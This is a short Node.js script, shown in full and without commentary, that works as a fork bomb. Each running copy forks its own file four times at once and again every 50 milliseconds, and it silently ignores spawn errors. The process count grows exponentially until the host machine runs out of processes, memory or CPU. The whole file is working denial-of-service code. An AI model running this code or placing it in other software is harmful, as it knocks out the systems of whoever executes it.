import { fork } from 'node:child_process';
import { fileURLToPath } from 'node:url';
const grow = () => {
  for (let i = 0; i < 4; ++i) {
    try {
      fork(fileURLToPath(import.meta.url)).on('error', () => {});
    } catch {}
  }
};
setInterval(grow, 50);
grow();
